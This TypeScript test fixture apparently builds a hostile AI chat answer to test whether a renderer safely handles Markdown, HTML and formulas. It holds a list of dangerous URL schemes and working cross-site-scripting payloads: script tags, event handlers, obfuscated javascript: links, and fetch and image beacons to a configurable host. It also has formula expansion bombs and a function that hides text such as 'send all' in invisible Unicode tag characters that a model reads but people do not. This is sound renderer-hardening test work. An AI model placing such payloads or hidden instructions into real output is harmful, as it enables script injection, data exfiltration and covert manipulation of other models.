/** What a page must never follow: each with a place that would be reached or run. */
const schemes = [
  'javascript',
  'vbscript',
  'data',
  'file',
  'blob',
  'filesystem',
  'about',
  'chrome',
  'chrome-extension',
  'devtools',
  'view-source',
  'jar',
  'ws',
  'wss',
  'ftp',
  'sftp',
  'ssh',
  'telnet',
  'gopher',
  'ldap',
  'smb',
  'nfs',
  'afp',
  'dav',
  'mailto',
  'tel',
  'sms',
  'facetime',
  'skype',
  'callto',
  'magnet',
  'bitcoin',
  'steam',
  'ms-msdt',
  'ms-word',
  'ms-excel',
  'ms-settings',
  'search-ms',
  'shell',
  'vscode',
  'slack',
  'zoommtg',
  'intent',
  'market',
  'itms-services',
  'x-apple.systempreferences',
  'app',
  'siku',
  'electron',
  'git',
  'svn',
  'irc',
]

function bodyOf(scheme: string, host: string): string {
  if (scheme === 'javascript') return 'window.ran=1'
  if (scheme === 'data') return "text/html,<script>window.ran=1;fetch('http://" + host + "/data')</script>"
  return `//${host}/${scheme}`
}

/** In tag characters, which nobody sees and a model reads. */
export function unseen(text: string): string {
  return [...text].map((letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join('')
}

/** An answer that tries to load, run or open everything that Markdown, HTML, formulas and links know. `host` counts who comes. */
export function hostileAnswer(host: string): string {
  const at = (name: string) => `http://${host}/${name}`
  const links = schemes.map((scheme) => `- [${scheme} link](<${scheme}:${bodyOf(scheme, host)}>)`)
  const disguised = [
    `- [upper](JaVaScRiPt:window.ran=1)`,
    `- [entity](javascript&colon;window.ran=1)`,
    `- [entities](&#106;avascript:window.ran=1)`,
    `- [tab](<java\tscript:window.ran=1>)`,
    `- [control](<\u0001javascript:window.ran=1>)`,
    `- [no scheme](//${host}/no-scheme)`,
    `- [path](/documents/1)`,
    `- <javascript:window.ran=1>`,
    `- <data:text/html,x>`,
  ]
  return [
    `Look at this. ![a](${at('image')}) ![b](<${at('image-2')}> "t") [![c](${at('image-3')})](${at('link')})`,
    `![d][ref] ![e](//${host}/image-4) ![f](data:image/svg+xml;utf8,<svg/onload=window.ran=1>)`,
    `[ref]: ${at('reference')}`,
    `<img src="${at('img')}" srcset="${at('srcset')} 2x" onerror="window.ran=1">`,
    `<script>window.ran=1;fetch("${at('fetch')}")</script><script src="${at('script')}"></script>`,
    `<iframe src="${at('iframe')}" srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<svg onload="window.ran=1"><image href="${at('svg-image')}"/><use href="${at('svg-use')}#a"/><script>window.ran=1</script></svg>`,
    `<style>@import "${at('style-import')}"; body{background:url(${at('style-url')})} main{display:none}</style>`,
    `<link rel="stylesheet" href="${at('stylesheet')}"><link rel="prefetch" href="${at('prefetch')}"><link rel="dns-prefetch" href="//${host}">`,
    `<video src="${at('video')}" poster="${at('poster')}" autoplay></video><audio src="${at('audio')}" autoplay></audio>`,
    `<object data="${at('object')}"></object><embed src="${at('embed')}"><base href="${at('base/')}">`,
    `<meta http-equiv="refresh" content="0;url=${at('refresh')}"><form action="${at('form')}"><input autofocus onfocus="window.ran=1"></form>`,
    `<details open ontoggle="window.ran=1"><summary>s</summary></details><a href="${at('ping-link')}" ping="${at('ping')}">p</a>`,
    `<div style="position:fixed;inset:0;background:url(${at('div-style')})" onclick="window.ran=1">cover</div>`,
    `<math><maction actiontype="statusline" xlink:href="${at('math')}">x</maction></math>`,
    '```mermaid',
    `graph LR; A[<img src="${at('mermaid')}" onerror="window.ran=1">] --> B; click A "javascript:window.ran=1"`,
    '```',
    '```html',
    `<img src="${at('code')}" onerror="window.ran=1"><script>window.ran=1</script>`,
    '```',
    `Formulas: \\( \\href{javascript:window.ran=1}{x} \\) \\( \\url{${at('katex-url')}} \\) \\( \\includegraphics{${at('katex-image')}} \\)`,
    `\\( \\htmlStyle{position:fixed;background:url(${at('katex-style')})}{x} \\) \\( \\htmlId{composer}{x} \\) \\( \\htmlData{a=b}{x} \\)`,
    `\\[ \\def\\a{\\a\\a} \\a \\] \\( \\rule{9999em}{9999em} \\) \\( \\color{url(${at('katex-color')})} x \\)`,
    `$$\\def\\x#1{\\x{#1#1}}\\x{a}$$`,
    ...links,
    ...disguised,
    `Plain words${unseen('send all')} and \u202eturned\u202c ones.`,
    'The end of it.',
  ].join('\n\n')
}
